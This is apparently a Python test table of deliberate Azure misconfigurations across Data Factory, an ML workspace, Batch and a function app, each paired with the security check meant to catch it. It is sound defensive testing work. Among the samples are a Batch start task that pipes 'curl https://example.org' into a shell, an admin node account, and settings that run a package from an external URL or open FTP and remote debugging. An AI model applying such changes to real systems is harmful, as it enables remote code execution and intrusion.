"""Factory, workspace, Batch and functions: what a person breaks there, and the check that must see it."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager

from tests.mutations.breaking import (
    Break,
    Broken,
    Mutation,
    adds,
    changes,
    posts,
    removes,
    replaces,
    sets,
    sets_at,
)
from tests.mutations.table_network import BATCH, DOORS, FACTORY, SITE, STORAGE, VAULT, WORKSPACE
from toolkit.records import Json

LINKED = f"{FACTORY}/linkedservices"
PIPELINE = f"{FACTORY}/pipelines"
TRIGGER = f"{FACTORY}/triggers"
RUNTIME = f"{FACTORY}/integrationRuntimes"
CREDENTIAL = f"{FACTORY}/credentials"
MANAGED = f"{FACTORY}/managedVirtualNetworks/managedPrivateEndpoints"
COMPUTE = f"{WORKSPACE}/computes"
DATASTORE = f"{WORKSPACE}/datastores"
RULE = f"{WORKSPACE}/outboundRules"
POOL = f"{BATCH}/pools"
PASSWORDS = f"{SITE}/basicPublishingCredentialsPolicies"
ADF = "2018-06-01"
AML = "2024-04-01"
FACTORIES = ("adf-*", "posture-*", "governance-*")
MACHINES = ("workspace-*", "batch-*", "posture-*", "identity-*")


def without_identity(type_: str, part: str = "") -> Break:
    def edit(document: Json) -> None:
        own = "SystemAssigned" in document["identity"]["type"]  # that one would come back as another
        document["identity"] = {"type": "SystemAssigned" if own else "None"}

    return changes(type_, part, edit)


def another_identity(type_: str, part: str = "") -> Break:
    @contextmanager
    def break_(broken: Broken) -> Iterator[None]:
        other = broken.one("Microsoft.ManagedIdentity/userAssignedIdentities", "-probe-writer").id

        def edit(document: Json) -> None:
            kept = {name: {} for name in document["identity"].get("userAssignedIdentities") or {}}
            document["identity"] = {**document["identity"], "userAssignedIdentities": {**kept, other: {}}}

        with changes(type_, part, edit)(broken):
            yield

    return break_


@contextmanager
def settings(broken: Broken, name: str, value: str | None) -> Iterator[None]:
    site = broken.one(SITE)
    path, call = f"{site.id}/config/appsettings", broken.platform.call
    before = call("POST", f"{path}/list", site.api_version)["properties"]
    after = {key: text for key, text in {**before, name: value}.items() if text is not None}
    call("PUT", path, site.api_version, {"properties": after})
    try:
        yield
    finally:
        call("PUT", path, site.api_version, {"properties": before})


@contextmanager
def config(broken: Broken, name: str, properties: Json) -> Iterator[None]:
    """Of the app, as nobody has set it before; put back to what says nothing."""
    site = broken.one(SITE)
    path, call = f"{site.id}/config/{name}", broken.platform.call
    call("PUT", path, site.api_version, {"properties": properties})
    try:
        yield
    finally:
        call("PUT", path, site.api_version, {"properties": {}})


def linked(name: str, type_: str, properties: Json) -> Break:
    return adds(
        f"linkedservices/{name}", ADF, {"properties": {"type": type_, "typeProperties": properties}}, below=FACTORY
    )


@contextmanager
def without_managed_endpoint(broken: Broken) -> Iterator[None]:
    """Made again, it has to be approved again."""
    one, target, call = broken.one(MANAGED, "/mpe-key-vault"), broken.one(VAULT), broken.platform.call
    call("DELETE", one.id, one.api_version)
    try:
        yield
    finally:
        call("PUT", one.id, one.api_version, one.body)
        for each in call("GET", f"{target.id}/privateEndpointConnections", target.api_version)["value"]:
            if each["properties"]["privateLinkServiceConnectionState"]["status"] == "Pending":
                state = {"status": "Approved", "description": "terraform"}
                body = {"properties": {**each["properties"], "privateLinkServiceConnectionState": state}}
                call("PUT", each["id"], target.api_version, body)


WAITS = {"activities": [{"name": "Wait", "type": "Wait", "typeProperties": {"waitTimeInSeconds": 1}}]}
SCHEDULE = {
    "type": "ScheduleTrigger",
    "typeProperties": {
        "recurrence": {"frequency": "Hour", "interval": 1, "startTime": "2026-01-01T00:00:00Z", "timeZone": "UTC"}
    },
    "pipelines": [
        {
            "pipelineReference": {"referenceName": "network-probe", "type": "PipelineReference"},
            "parameters": {"blob": "x"},
        }
    ],
}
CLUSTER = {
    "computeType": "AmlCompute",
    "disableLocalAuth": True,
    "properties": {
        "vmSize": "Standard_D2s_v5",
        "vmPriority": "Dedicated",
        "scaleSettings": {"minNodeCount": 0, "maxNodeCount": 1},
    },
}


@contextmanager
def started_trigger_of_nobodys(broken: Broken) -> Iterator[None]:
    path = f"{broken.one(FACTORY).id}/triggers/mine"
    call = broken.platform.call
    call("PUT", path, ADF, {"properties": SCHEDULE})
    call("POST", f"{path}/start", ADF)
    try:
        yield
    finally:
        call("POST", f"{path}/stop", ADF)
        call("DELETE", path, ADF)


TABLE: tuple[Mutation, ...] = (
    # -- factory
    Mutation(
        "code comes from a stranger's repository",
        "factory",
        "breach",
        sets(
            FACTORY,
            "",
            repoConfiguration={
                "type": "FactoryGitHubConfiguration",
                "accountName": "stranger",
                "repositoryName": "adf",
                "collaborationBranch": "main",
                "rootFolder": "/",
            },
        ),
        "adf-factory-exact",
        also=FACTORIES,
    ),
    Mutation(
        "a global parameter",
        "factory",
        "hygiene",
        adds(
            "globalParameters/default",
            ADF,
            {"properties": {"url": {"type": "String", "value": "https://example.org"}}},
            below=FACTORY,
        ),
        "governance-unmanaged",
        "extra",
    ),
    *(
        Mutation(
            f"a linked service {what}",
            "linked services",
            "breach",
            break_,
            "adf-linked-services-exact",
            cause,
            FACTORIES,
        )
        for what, break_, cause in (
            (
                "to a stranger's account",
                sets(LINKED, "/ls_storage", typeProperties__serviceEndpoint="https://stranger.blob.core.windows.net"),
                "differs",
            ),
            ("without the managed runtime", sets(LINKED, "/ls_lake", connectVia=None), "differs"),
            (
                "to another vault",
                sets(LINKED, "/ls_key_vault", typeProperties__baseUrl="https://kv-stranger.vault.azure.net"),
                "differs",
            ),
            (
                "with an account key",
                sets(LINKED, "/ls_lake", typeProperties__accountKey={"type": "SecureString", "value": "**********"}),
                "differs",
            ),
            ("with another credential", sets(LINKED, "/ls_batch", typeProperties__credential=None), "differs"),
            (
                "to another workspace",
                sets(LINKED, "/ls_workspace", typeProperties__mlWorkspaceName="mlw-stranger"),
                "differs",
            ),
            (
                "of nobody's, by key",
                linked(
                    "mine", "AzureBlobStorage", {"connectionString": "DefaultEndpointsProtocol=https;AccountName=x"}
                ),
                "extra",
            ),
            (
                "of nobody's, by http",
                linked("web", "HttpServer", {"url": "https://example.org", "authenticationType": "Anonymous"}),
                "extra",
            ),
        )
    ),
    Mutation(
        "no linked service of the lake",
        "linked services",
        "outage",
        removes(LINKED, "/ls_lake"),
        "adf-linked-services-exact",
        "absent",
        FACTORIES,
    ),
    *(
        Mutation(f"a pipeline {what}", "pipelines", "outage", break_, "adf-pipelines-exact", cause, FACTORIES)
        for what, break_, cause in (
            ("is empty", sets(PIPELINE, "/deployment", activities=[]), "differs"),
            ("only waits", sets(PIPELINE, "/training", **WAITS), "differs"),
            (
                "asks for another resource's token",
                replaces(
                    PIPELINE,
                    "/read-code-pointer",
                    '"resource": "https://storage.azure.com/"',
                    '"resource": "https://management.azure.com/"',
                ),
                "differs",
            ),
            (
                "does not sign in",
                sets_at(
                    PIPELINE, "/read-code-pointer", {"properties.activities.0.typeProperties.authentication": None}
                ),
                "differs",
            ),
            (
                "has an ancient x-ms-version",
                replaces(PIPELINE, "/read-code-pointer", "2023-11-03", "2017-04-17"),
                "differs",
            ),
            (
                "has no x-ms-version",
                sets_at(PIPELINE, "/read-code-pointer", {"properties.activities.0.typeProperties.headers": {}}),
                "differs",
            ),
            (
                "reads another pointer",
                replaces(PIPELINE, "/read-code-pointer", "/ml-globals/", "/adftrain/"),
                "differs",
            ),
            (
                "leaves by another way",
                sets_at(PIPELINE, "/network-probe", {"properties.activities.0.typeProperties.connectVia": None}),
                "differs",
            ),
            (
                "never retries",
                sets_at(PIPELINE, "/read-code-pointer", {"properties.activities.0.policy.retry": 0}),
                "differs",
            ),
            ("is gone", removes(PIPELINE, "/network-probe"), "absent"),
        )
    ),
    Mutation(
        "a pipeline of nobody's",
        "pipelines",
        "hygiene",
        adds("pipelines/mine", ADF, {"properties": WAITS}, below=FACTORY),
        "governance-unmanaged",
        "extra",
        FACTORIES,
    ),
    Mutation(
        "a data set of nobody's",
        "factory",
        "hygiene",
        adds(
            "datasets/mine",
            ADF,
            {
                "properties": {
                    "type": "Json",
                    "linkedServiceName": {"referenceName": "ls_lake", "type": "LinkedServiceReference"},
                    "typeProperties": {"location": {"type": "AzureBlobFSLocation", "fileSystem": "raw"}},
                }
            },
            below=FACTORY,
        ),
        "governance-unmanaged",
        "extra",
        FACTORIES,
    ),
    *(
        Mutation(f"a trigger {what}", "triggers", "outage", break_, check, cause, FACTORIES)
        for what, break_, check, cause in (
            (
                "at another hour",
                sets(TRIGGER, "/daily", typeProperties__recurrence__schedule={"hours": [14], "minutes": [0]}),
                "adf-triggers-exact",
                "differs",
            ),
            (
                "of another pipeline",
                sets_at(
                    TRIGGER,
                    "/daily",
                    {
                        "properties.pipelines.0.pipelineReference.referenceName": "network-probe",
                        "properties.pipelines.0.parameters": {"blob": "x"},
                    },
                ),
                "adf-triggers-exact",
                "differs",
            ),
            (
                "on other blobs",
                sets(TRIGGER, "/new-training-data", typeProperties__blobPathEndsWith=".exe"),
                "adf-triggers-exact",
                "differs",
            ),
            ("is started", posts(TRIGGER, "/daily", "start", "stop"), "adf-triggers", "differs"),
            ("is gone", removes(TRIGGER, "/new-training-data"), "adf-triggers-exact", "absent"),
        )
    ),
    Mutation(
        "a trigger of nobody's runs",
        "triggers",
        "breach",
        started_trigger_of_nobodys,
        "adf-triggers-exact",
        "extra",
        FACTORIES,
    ),
    Mutation(
        "a trigger of nobody's waits",
        "triggers",
        "hygiene",
        adds("triggers/idle", ADF, {"properties": SCHEDULE}, below=FACTORY),
        "governance-unmanaged",
        "extra",
        FACTORIES,
    ),
    Mutation(
        "a runtime of somebody's machines",
        "factory",
        "breach",
        adds("integrationRuntimes/theirs", ADF, {"properties": {"type": "SelfHosted"}}, below=FACTORY),
        "adf-runtimes-exact",
        "extra",
        FACTORIES,
    ),
    Mutation(
        "a credential of nobody's",
        "factory",
        "breach",
        adds(
            "credentials/mine",
            ADF,
            lambda b: {
                "properties": {
                    "type": "ManagedIdentity",
                    "typeProperties": {
                        "resourceId": b.one("Microsoft.ManagedIdentity/userAssignedIdentities", "-factory").id
                    },
                }
            },
            below=FACTORY,
        ),
        "adf-credentials-exact",
        "extra",
        FACTORIES,
    ),
    Mutation(
        "a managed endpoint to another target",
        "factory",
        "breach",
        adds(
            "managedVirtualNetworks/default/managedPrivateEndpoints/mine",
            ADF,
            lambda b: {"properties": {"groupId": "file", "privateLinkResourceId": b.one(STORAGE, "/stfn").id}},
            below=FACTORY,
        ),
        "adf-endpoints-exact",
        "extra",
        (*FACTORIES, "network-connections"),
    ),
    Mutation(
        "a managed endpoint is gone",
        "factory",
        "outage",
        without_managed_endpoint,
        "adf-endpoints-exact",
        "absent",
        (*FACTORIES, "network-connections", "storage-*", "keyvault-*"),
    ),
    Mutation(
        "the factory has lost its identity",
        "identities",
        "outage",
        without_identity(FACTORY),
        "identity-attached",
        also=("*",),
    ),
    Mutation(
        "the factory acts as another, too",
        "identities",
        "breach",
        another_identity(FACTORY),
        "identity-attached",
        also=FACTORIES,
    ),
    # -- workspace
    *(
        Mutation(
            f"the workspace: {what}",
            "workspace",
            harm,
            sets(WORKSPACE, "", **values),
            check,
            also=("workspace-*", *DOORS),
        )
        for what, harm, values, check in (
            ("reachable from outside", "breach", {"allowPublicAccessWhenBehindVnet": True}, "network-exceptions"),
            ("datastores by key", "breach", {"systemDatastoresAuthMode": "AccessKey"}, "workspace-exact"),
            ("the old interface", "breach", {"v1LegacyMode": True}, "workspace-exact"),
            ("a lake of addresses", "breach", {"ipAllowlist": ["203.0.113.0/24"]}, "network-exceptions"),
            ("builds elsewhere", "outage", {"imageBuildCompute": "somewhere"}, "workspace-exact"),
        )
    ),
    *(
        Mutation(f"a cluster {what}", "compute", harm, sets(COMPUTE, "", **values), check, also=MACHINES)
        for what, harm, values, check in (
            ("with public addresses", "breach", {"properties__enableNodePublicIp": True}, "workspace-computes-exact"),
            (
                "with open ssh",
                "breach",
                {"properties__remoteLoginPortPublicAccess": "Enabled"},
                "workspace-computes-exact",
            ),
            ("with local users", "breach", {"disableLocalAuth": False}, "workspace-computes-exact"),
            ("that never sleeps", "cost", {"properties__scaleSettings__minNodeCount": 1}, "governance-costs"),
            ("without nodes", "outage", {"properties__scaleSettings__maxNodeCount": 0}, "workspace-computes-exact"),
        )
    ),
    Mutation(
        "a cluster of nobody's with public addresses",
        "compute",
        "breach",
        adds("computes/mine", AML, {"location": "westeurope", "properties": CLUSTER}, below=WORKSPACE),
        "workspace-computes-exact",
        "extra",
        MACHINES,
    ),
    Mutation(
        "no cluster",
        "compute",
        "outage",
        removes(COMPUTE, "/cpu-cluster"),
        "workspace-computes-exact",
        "absent",
        MACHINES,
    ),
    Mutation(
        "the cluster acts as another, too",
        "identities",
        "breach",
        another_identity(COMPUTE),
        "identity-attached",
        also=MACHINES,
    ),
    *(
        Mutation(
            f"a datastore {what}", "workspace", "breach", break_, "workspace-datastores-exact", cause, ("workspace-*",)
        )
        for what, break_, cause in (
            (
                "with a key",
                sets(
                    DATASTORE,
                    "/raw",
                    credentials={
                        "credentialsType": "AccountKey",
                        "secrets": {"secretsType": "AccountKey", "key": "a2V5"},
                    },
                ),
                "differs",
            ),
            (
                "with a SAS",
                sets(
                    DATASTORE,
                    "/adftrain",
                    credentials={"credentialsType": "Sas", "secrets": {"secretsType": "Sas", "sasToken": "sv=1"}},
                ),
                "differs",
            ),
            ("on a stranger's account", sets(DATASTORE, "/curated", accountName="stranger"), "differs"),
            (
                "of nobody's",
                adds(
                    "datastores/mine",
                    AML,
                    {
                        "properties": {
                            "datastoreType": "AzureBlob",
                            "accountName": "stranger",
                            "containerName": "c",
                            "credentials": {"credentialsType": "None"},
                        }
                    },
                    below=WORKSPACE,
                ),
                "extra",
            ),
        )
    ),
    Mutation(
        "no datastore of raw data",
        "workspace",
        "outage",
        removes(DATASTORE, "/raw"),
        "workspace-datastores-exact",
        "absent",
        ("workspace-*",),
    ),
    Mutation(
        "a connection with a key",
        "workspace",
        "breach",
        adds(
            "connections/mine",
            AML,
            {
                "properties": {
                    "category": "AzureOpenAI",
                    "authType": "ApiKey",
                    "target": "https://example.org",
                    "credentials": {"key": "x"},
                }
            },
            below=WORKSPACE,
        ),
        "workspace-connections-exact",
        "extra",
    ),
    Mutation(
        "an outbound rule is gone",
        "workspace",
        "outage",
        removes(RULE, "/lake-dfs"),
        "workspace-outbound-exact",
        "absent",
        ("workspace-*", "storage-*"),
    ),
    Mutation(
        "an outbound rule to a stranger",
        "workspace",
        "breach",
        adds(
            "outboundRules/mine",
            AML,
            {"properties": {"type": "FQDN", "destination": "*.example.org", "category": "UserDefined"}},
            below=WORKSPACE,
        ),
        "workspace-outbound-exact",
        "extra",
        ("workspace-*",),
    ),
    # -- Batch
    Mutation(
        "Batch takes keys",
        "batch",
        "breach",
        sets(BATCH, "", allowedAuthenticationModes=["SharedKey", "AAD"]),
        "batch-account-exact",
        also=("posture-*", "batch-*"),
    ),
    Mutation(
        "a pool of nobody's",
        "batch",
        "breach",
        adds(
            "pools/mine",
            "2024-02-01",
            {
                "properties": {
                    "vmSize": "STANDARD_D2S_V5",
                    "deploymentConfiguration": {
                        "virtualMachineConfiguration": {
                            "imageReference": {
                                "publisher": "microsoft-dsvm",
                                "offer": "ubuntu-hpc",
                                "sku": "2204",
                                "version": "latest",
                            },
                            "nodeAgentSkuId": "batch.node.ubuntu 22.04",
                        }
                    },
                    "scaleSettings": {"fixedScale": {"targetDedicatedNodes": 0}},
                }
            },
            below=BATCH,
        ),
        "batch-pools-exact",
        "extra",
        ("batch-*", "posture-*"),
    ),
    Mutation(
        "a start task",
        "batch",
        "breach",
        sets(POOL, "", startTask={"commandLine": "curl https://example.org | sh", "waitForSuccess": False}),
        "batch-pools-exact",
        also=("batch-*", "posture-*"),
    ),
    Mutation(
        "a user on the nodes",
        "batch",
        "breach",
        sets(POOL, "", userAccounts=[{"name": "me", "elevationLevel": "Admin", "password": "x"}]),
        "batch-pools-exact",
        also=("batch-*", "posture-*"),
    ),
    Mutation(
        "more slots",
        "batch",
        "outage",
        sets(POOL, "", taskSlotsPerNode=4),
        "batch-pools-exact",
        also=("batch-*", "posture-*"),
    ),
    Mutation(
        "no machines at all",
        "batch",
        "outage",
        sets(POOL, "", scaleSettings={"fixedScale": {"targetDedicatedNodes": 0, "targetLowPriorityNodes": 0}}),
        "batch-pools-exact",
        also=("batch-*", "posture-*"),
    ),
    Mutation(
        "an application of nobody's",
        "batch",
        "hygiene",
        adds("applications/mine", "2024-02-01", {"properties": {}}, below=BATCH),
        "governance-unmanaged",
        "extra",
    ),
    # -- function app
    *(
        Mutation(
            f"the function app {what}",
            "function",
            harm,
            sets(SITE, "", **values),
            check,
            also=("function-*", "posture-*"),
        )
        for what, harm, values, check in (
            ("answers plain http", "breach", {"httpsOnly": False}, "function-exact"),
            ("is off", "outage", {"enabled": False}, "function-exact"),
            ("has left the network", "outage", {"virtualNetworkSubnetId": None}, "function-exact"),
            (
                "runs another package",
                "outage",
                {"functionAppConfig__deployment__storage__value": "https://stranger.blob.core.windows.net/p"},
                "function-exact",
            ),
            (
                "runs another runtime",
                "outage",
                {"functionAppConfig__runtime": {"name": "node", "version": "20"}},
                "function-exact",
            ),
        )
    ),
    Mutation(
        "the function app has lost its identity",
        "identities",
        "outage",
        without_identity(SITE),
        "identity-attached",
        also=("function-*", "posture-*"),
    ),
    *(
        Mutation(f"a setting {what}", "function", harm, break_, "function-settings", also=("function-*", "posture-*"))
        for what, harm, break_ in (
            (
                "with a key",
                "breach",
                lambda b: settings(b, "AzureWebJobsStorage", "DefaultEndpointsProtocol=https;AccountKey=x"),
            ),
            ("is gone", "outage", lambda b: settings(b, "AzureWebJobsStorage__accountName", None)),
            ("names another account", "outage", lambda b: settings(b, "AzureWebJobsStorage__accountName", "stranger")),
            ("of nobody's", "breach", lambda b: settings(b, "WEBSITE_RUN_FROM_PACKAGE", "https://example.org/p.zip")),
            ("opens ftp", "breach", lambda b: config(b, "web", {"ftpsState": "AllAllowed"})),
            ("opens remote debugging", "breach", lambda b: config(b, "web", {"remoteDebuggingEnabled": True})),
            ("lets any site's scripts in", "breach", lambda b: config(b, "web", {"cors": {"allowedOrigins": ["*"]}})),
            (
                "is a connection string",
                "breach",
                lambda b: config(b, "connectionstrings", {"db": {"type": "SQLAzure", "value": "x"}}),
            ),
        )
    ),
    *(
        Mutation(
            f"passwords over {name}",
            "function",
            "breach",
            sets(PASSWORDS, f"/{name}", allow=True),
            "function-publishing",
            also=("posture-*", "function-password-denied"),  # which the password opens, over scm
        )
        for name in ("ftp", "scm")
    ),
)
